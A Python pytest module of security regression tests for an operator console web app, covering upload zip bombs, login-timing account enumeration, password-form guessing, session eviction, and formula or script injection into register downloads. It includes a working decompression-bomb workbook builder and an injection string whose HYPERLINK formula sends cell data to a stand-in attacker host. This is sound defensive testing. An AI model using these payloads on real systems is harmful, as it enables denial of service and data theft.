"""Attacks on the operator console over HTTP (issue 11 security review, docs/security.md §7):
a hostile roster file, login timing, the password form, session eviction, formulas in the
registers. Real SQLite, Starlette's test client."""

from __future__ import annotations

import io
import sqlite3
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from starlette.testclient import TestClient

from gateway.web import sessions as sessions_module
from gateway.web.console.app import REPORT_NAMES, Console
from gateway.web.sessions import AddressLimiter
from tests.web import test_console_http as console_http
from tests.web.console_site import CHIEF, CHIEF_PASSWORD, INITIAL, NOPAY, SECOND, VIEWER, Desk
from tests.web.test_console_http import NEW, Clock, _csrf, _login, _ready, console, site

__all__ = ["console", "site"]  # fixtures, imported for their names

HEADER = "姓名,学号,身份证号,学院,班级\n"


@pytest.fixture(autouse=True, scope="module")
def _own_password_memory() -> Iterator[None]:
    """test_console_http's ``_ready`` remembers whose password it changed, for its registry;
    this module has its own registry (its own ``site``), so it starts from none changed."""
    before = set(console_http._changed)
    console_http._changed.clear()
    yield
    console_http._changed.clear()
    console_http._changed.update(before)


def _upload(client: TestClient, name: str, body: bytes) -> str:
    csrf = _csrf(client.get("/roster").text)
    reply = client.post(
        "/roster",
        data={"csrf": csrf, "kind": "student"},
        files={"file": (name, body, "application/octet-stream")},
        follow_redirects=False,
    )
    assert reply.status_code == 303, reply.text
    return str(reply.headers["location"])


def _finished(client: TestClient, job: str, within_s: float) -> str:
    deadline = time.monotonic() + within_s
    while time.monotonic() < deadline:
        if client.get(f"{job}.json").json()["finished"]:
            return client.get(job).text
        time.sleep(0.05)
    raise AssertionError(f"the roster was still being read after {within_s} s")


def _bomb() -> bytes:
    """A 20 KiB-ish workbook whose sheet unpacks to ~160 MiB: millions of rows."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["姓名", "学号", "身份证号", "学院", "班级"])
    plain = io.BytesIO()
    wb.save(plain)
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", row * 3_300_000 + b"</sheetData>")
            dst.writestr(info.filename, data, compresslevel=9)
    return out.getvalue()


def test_roster_zip_bomb_and_endless_rows_are_refused_fast(
    console: tuple[TestClient, Console, Clock],
) -> None:
    """A tiny .xlsx that unpacks to millions of rows, or a CSV past any real roster, kept a
    worker thread busy for minutes and gathered one error per row in memory; now refused as a
    file problem in about a second."""
    client, _, _ = console
    _ready(client, CHIEF, CHIEF_PASSWORD)
    bomb = _bomb()
    assert len(bomb) < 1024 * 1024
    page = _finished(client, _upload(client, "bomb.xlsx", bomb), within_s=5)
    assert "解压后过大" in page and "unpacks to" in page
    rows = (HEADER + "张三,S1,bad,学院,班级\n" * 100_001).encode()
    page = _finished(client, _upload(client, "many.csv", rows), within_s=10)
    assert "行数过多" in page and "too many rows" in page


def _login_ms(client: TestClient, username: str) -> float:
    page = client.get("/login")
    start = time.perf_counter()
    reply = client.post(
        "/login",
        data={"csrf": _csrf(page.text), "username": username, "password": "Wrong-Pass-0000!"},
    )
    elapsed = (time.perf_counter() - start) * 1000
    assert reply.status_code == 403, reply.text
    return elapsed


def test_login_time_does_not_tell_which_operator_names_exist(
    console: tuple[TestClient, Console, Clock],
) -> None:
    """A wrong password cost scrypt (~50 ms), an unknown user name nothing: a student on the
    counter network could list the clerks' accounts by timing /login. Now both cost a hash."""
    client, app, _ = console
    app.addresses = AddressLimiter(1_000, 60.0)  # the per-address limit is tested elsewhere
    known = min(_login_ms(client, VIEWER) for _ in range(3))
    unknown = min(_login_ms(client, "no-such-clerk") for _ in range(3))
    assert unknown >= 0.5 * known, (unknown, known)


def _change(client: TestClient, old: str) -> str:
    """``changed``, ``refused`` (the form again) or ``logged out`` (sent to /login)."""
    page = client.get("/password", follow_redirects=False)
    if page.status_code == 303:
        assert page.headers["location"] == "/login"
        return "logged out"
    reply = client.post(
        "/password",
        data={"csrf": _csrf(page.text), "old": old, "new": NEW, "repeat": NEW},
        follow_redirects=False,
    )
    if reply.status_code == 303:
        return "changed" if reply.headers["location"] == "/" else "logged out"
    assert reply.status_code in (400, 403), reply.text
    return "refused"


def test_password_form_is_no_unlimited_oracle_and_ends_other_sessions(
    console: tuple[TestClient, Console, Clock],
) -> None:
    """Someone at a clerk's unlocked console guessed the current password on /password without
    limit (never counted towards the lockout), and a changed password left the other sessions
    (a stolen cookie) alive. Now wrong guesses lock the account like wrong logins, and a change
    ends every other session of the account."""
    client, app, _ = console
    app.addresses = AddressLimiter(1_000, 60.0)
    # the guessing
    assert _login(client, NOPAY, INITIAL) == "/password"
    for _ in range(5):
        assert _change(client, "Guess-Pass-1234!") != "changed"
    assert _change(client, INITIAL) == "logged out"  # the right one, too late: locked
    page = client.post(
        "/login",
        data={"csrf": _csrf(client.get("/login").text), "username": NOPAY, "password": INITIAL},
    )
    assert page.status_code == 403 and "锁定" in page.text
    # the other sessions
    client.cookies.clear()
    assert _login(client, SECOND, INITIAL) == "/password"
    stolen = client.cookies[app.cookie]
    client.cookies.clear()
    assert _login(client, SECOND, INITIAL) == "/password"
    assert _change(client, INITIAL) == "changed"
    assert client.get("/", follow_redirects=False).status_code == 200
    client.cookies.clear()
    client.cookies.set(app.cookie, stolen)
    reply = client.get("/", follow_redirects=False)
    assert reply.status_code == 303 and reply.headers["location"] == "/login"


def test_anonymous_requests_cannot_evict_logged_in_sessions(
    console: tuple[TestClient, Console, Clock], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every request without a cookie opens a session, and past the store's bound the oldest
    went first, logged in or not: anyone on the counter network could log every clerk out with
    a loop of cookie-less GETs (50,000 in production; 40 here). Anonymous sessions go first."""
    client, _, _ = console
    monkeypatch.setattr(sessions_module, "MAX_SESSIONS", 40)
    _ready(client, CHIEF, CHIEF_PASSWORD)
    assert client.get("/", follow_redirects=False).status_code == 200
    stranger = TestClient(client.app, base_url=str(client.base_url))  # the same app, no cookie
    for _ in range(100):
        stranger.cookies.clear()
        assert stranger.get("/login").status_code == 200
    assert client.get("/", follow_redirects=False).status_code == 200


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def test_no_register_download_carries_a_formula_or_raw_name(
    console: tuple[TestClient, Console, Clock], site: tuple[Path, Desk]
) -> None:
    """Holder, merchant and operator-typed texts like ``=HYPERLINK(...)`` or ``<script>`` in
    every register: text cells in the XLSX, escaped in the page (runs last: it renames)."""
    client, _, _ = console
    db, _ = site
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE holders SET name = ?", (EVIL + "<script>x</script>",))
        conn.execute("UPDATE merchants SET name = ?", (EVIL,))
    _ready(client, CHIEF, CHIEF_PASSWORD)
    seen = 0
    for name, _zh, _en in REPORT_NAMES:
        page = client.get(f"/reports?name={name}")
        assert "<script>x" not in page.text, name
        book = load_workbook(io.BytesIO(client.get(f"/reports/{name}.xlsx").content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    seen += isinstance(cell.value, str) and cell.value.startswith("=HYPER")
    assert seen  # the names did reach some register
